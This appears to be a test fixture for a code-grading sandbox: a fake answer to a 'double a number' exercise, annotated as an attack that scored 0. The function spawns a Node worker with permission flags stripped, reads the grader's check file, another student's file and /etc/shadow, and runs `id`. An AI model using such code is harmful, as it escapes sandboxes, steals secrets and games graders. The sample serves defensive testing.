// attack: starts a worker with execArgv: [] and an environment of its own, which takes Node's permission flags off
// points: 0
// says: expected 42, got 0
// dangerous: it would read files and run commands
// %%
// exercise 01.1 · Double a number
function double(n: number): any {
  const { Worker } = require("node:worker_threads");
  const code = `
    const { parentPort } = require("node:worker_threads");
    const seen = [];
    for (const file of ["@COURSE@/test/checks/01.check.ts", "@NEIGHBOUR@", "/etc/shadow"]) try { seen.push(require("fs").readFileSync(file, "utf8")); } catch {}
    try { seen.push(require("child_process").execSync("id").toString()); } catch {}
    parentPort.postMessage(seen);`;
  return new Promise((resolve) => new Worker(code, { eval: true, execArgv: [], env: {} }).on("message", (seen: string[]) => resolve(seen.length)).on("error", () => resolve(0)));
}
